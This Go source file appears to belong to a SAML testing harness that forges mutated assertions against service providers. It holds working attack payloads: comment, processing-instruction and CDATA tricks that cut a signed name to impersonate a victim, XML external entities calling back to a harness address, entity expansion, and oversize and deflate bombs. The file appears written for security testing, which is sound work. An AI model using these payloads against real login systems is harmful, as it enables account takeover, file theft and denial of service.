package forge

import (
	"bytes"
	"compress/flate"
	"errors"
	"fmt"
	"strings"
	"unicode/utf16"

	"github.com/beevik/etree"
)

var errNoCallBack = errors.New("forge: no address of the harness that the service provider could call back")

// CommentInAttributes is CommentInName in the attribute values alone: the NameID
// is the longer name, whole.
func CommentInAttributes() Mutation {
	return before("attributes that begin with the other person's, cut by a comment", func(r *etree.Element, with Context) error {
		cut := 0
		err := rename(r, func(e *etree.Element, victim string) {
			if e.Tag == "NameID" {
				e.SetText(victim + lengthening)
				return
			}
			cut++
			sayCut(e, victim, etree.NewComment(""), lengthening)
		}, with.Carry)
		if err == nil && cut == 0 {
			err = errors.New("forge: no attribute names the person")
		}
		return err
	})
}

// InstructionInName puts a processing instruction behind the victim's name.
// Canonicalization keeps it, so it is signed with it.
func InstructionInName() Mutation {
	return cutName("processing instruction", func() etree.Token { return etree.NewProcInst("x", "y") })
}

// ElementInName puts an empty element behind the victim's name.
func ElementInName() Mutation {
	return cutName("empty element", func() etree.Token { return etree.NewElement("x") })
}

func cutName(what string, by func() etree.Token) Mutation {
	return before("a name that begins with the other person's, cut by a "+what, func(r *etree.Element, with Context) error {
		return rename(r, func(e *etree.Element, victim string) { sayCut(e, victim, by(), lengthening) }, with.Carry)
	})
}

// SectionInName writes the rest of the longer name as a CDATA section. It comes
// after LongerName and after signing: canonicalization makes plain text of the
// section, so that the signature is that of the longer name.
func SectionInName() Mutation {
	return after("the rest of a name as a CDATA section", func(r *etree.Element, with Context) error {
		names := map[string]string{with.Carry.NameID + lengthening: with.Carry.NameID}
		for _, to := range with.Carry.Replace {
			names[to+lengthening] = to
		}
		cut := 0
		for _, e := range append(findAll(r, nsAssertion, "NameID"), findAll(r, nsAssertion, "AttributeValue")...) {
			if victim := names[e.Text()]; victim != "" {
				e.Child = nil
				e.CreateText(victim)
				e.CreateCData(lengthening)
				cut++
			}
		}
		if cut == 0 {
			return errors.New("forge: nobody has the longer name")
		}
		return nil
	})
}

func sayCut(e *etree.Element, victim string, by etree.Token, rest string) {
	e.Child = nil
	e.CreateText(victim)
	e.AddChild(by)
	e.CreateText(rest)
}

// EntityInName has a document type declare the rest of the longer name as an
// entity: a reader that stops at it sees the victim.
func EntityInName() Mutation {
	return written("the rest of a name as an entity", func(text []byte, with Context) ([]byte, error) {
		long := with.Carry.NameID + lengthening
		if !bytes.Contains(text, []byte(">"+long+"<")) {
			return nil, errors.New("forge: nobody has the longer name")
		}
		out := bytes.ReplaceAll(text, []byte(lengthening+"<"), []byte("&rest;<"))
		return withDoctype(out, `[<!ENTITY rest "`+lengthening+`">]`)
	})
}

// Doctype adds a document type that declares an entity which nothing uses.
func Doctype() Mutation {
	return written("a document type", func(text []byte, _ Context) ([]byte, error) {
		return withDoctype(text, `[<!ENTITY unused "unused">]`)
	})
}

// ExternalEntity has the document name an entity by the harness's call-back
// address, in a comment-free place that is not signed for.
func ExternalEntity() Mutation {
	return calling("an external entity, which calls back", func(text []byte, with Context) ([]byte, error) {
		if with.CallBack == "" {
			return nil, errNoCallBack
		}
		at := bytes.LastIndex(text, []byte("</"))
		if at < 0 {
			return nil, errors.New("forge: no end tag")
		}
		out := bytes.Join([][]byte{text[:at], []byte("&outside;"), text[at:]}, nil)
		return withDoctype(out, `[<!ENTITY outside SYSTEM "`+with.CallBack+`">]`)
	})
}

// ParameterEntity has the document type itself be fetched in part.
func ParameterEntity() Mutation {
	return calling("an external parameter entity, which calls back", func(text []byte, with Context) ([]byte, error) {
		if with.CallBack == "" {
			return nil, errNoCallBack
		}
		return withDoctype(text, `[<!ENTITY % outside SYSTEM "`+with.CallBack+`"> %outside;]`)
	})
}

// ExternalSubset has the whole document type be fetched.
func ExternalSubset() Mutation {
	return calling("an external document type, which calls back", func(text []byte, with Context) ([]byte, error) {
		if with.CallBack == "" {
			return nil, errNoCallBack
		}
		return withDoctype(text, `SYSTEM "`+with.CallBack+`"`)
	})
}

// Expansion nests entities so that they expand to about four megabytes.
func Expansion() Mutation {
	return written("entities that expand to 4 MB", func(text []byte, _ Context) ([]byte, error) {
		var dtd strings.Builder
		dtd.WriteString(`[<!ENTITY e0 "` + strings.Repeat("x", 64) + `">`)
		for n := 1; n <= 8; n++ {
			fmt.Fprintf(&dtd, `<!ENTITY e%d "%s">`, n, strings.Repeat(fmt.Sprintf("&e%d;", n-1), 4))
		}
		dtd.WriteString("]")
		at := bytes.LastIndex(text, []byte("</"))
		if at < 0 {
			return nil, errors.New("forge: no end tag")
		}
		return withDoctype(bytes.Join([][]byte{text[:at], []byte("&e8;"), text[at:]}, nil), dtd.String())
	})
}

// withDoctype puts a document type between the declaration, if any, and the root.
func withDoctype(text []byte, rest string) ([]byte, error) {
	declaration, body := splitDeclaration(text)
	name := rootName(body)
	if name == "" {
		return nil, errors.New("forge: no root element")
	}
	return bytes.Join([][]byte{declaration, []byte("<!DOCTYPE " + name + " " + rest + ">"), body}, nil), nil
}

func splitDeclaration(text []byte) (declaration, body []byte) {
	if bytes.HasPrefix(text, []byte("<?xml")) {
		if at := bytes.Index(text, []byte("?>")); at > 0 {
			return text[:at+2], text[at+2:]
		}
	}
	return nil, text
}

func rootName(body []byte) string {
	body = bytes.TrimLeft(body, " \t\r\n")
	if len(body) < 2 || body[0] != '<' {
		return ""
	}
	end := bytes.IndexAny(body, " \t\r\n/>")
	if end < 2 {
		return ""
	}
	return string(body[1:end])
}

// UTF16 writes the message in UTF-16 with a byte order mark, as XML lets
// anybody do.
func UTF16(declared bool) Mutation {
	name := "in UTF-16"
	if !declared {
		name = "in UTF-16 that says it is UTF-8"
	}
	return written(name, func(text []byte, _ Context) ([]byte, error) {
		_, body := splitDeclaration(text)
		encoding := "UTF-8"
		if declared {
			encoding = "UTF-16"
		}
		out := []byte{0xFE, 0xFF}
		for _, u := range utf16.Encode([]rune(`<?xml version="1.0" encoding="` + encoding + `"?>` + string(body))) {
			out = append(out, byte(u>>8), byte(u))
		}
		return out, nil
	})
}

// Oversize makes the message about four megabytes long, by a comment.
func Oversize() Mutation {
	return written("4 MB long", func(text []byte, _ Context) ([]byte, error) {
		return append(bytes.Clone(text), []byte("<!--"+strings.Repeat("x", 4<<20)+"-->")...), nil
	})
}

// DeflateBomb deflates the message with four megabytes of nothing behind it, as
// the HTTP-Redirect binding has it: some service providers inflate what comes
// by POST, too.
func DeflateBomb() Mutation {
	return written("deflated, 4 MB long when inflated", func(text []byte, _ Context) ([]byte, error) {
		var out bytes.Buffer
		w, err := flate.NewWriter(&out, flate.BestCompression)
		if err != nil {
			return nil, err
		}
		if _, err := w.Write(append(bytes.Clone(text), bytes.Repeat([]byte(" "), 4<<20)...)); err != nil {
			return nil, err
		}
		if err := w.Close(); err != nil {
			return nil, err
		}
		return out.Bytes(), nil
	})
}

func written(name string, text func([]byte, Context) ([]byte, error)) Mutation {
	return Mutation{Name: name, Stage: Written, Text: text}
}

// calling is written, for what needs an address to call back.
func calling(name string, text func([]byte, Context) ([]byte, error)) Mutation {
	return Mutation{Name: name, Stage: Written, Text: text, Calls: true}
}
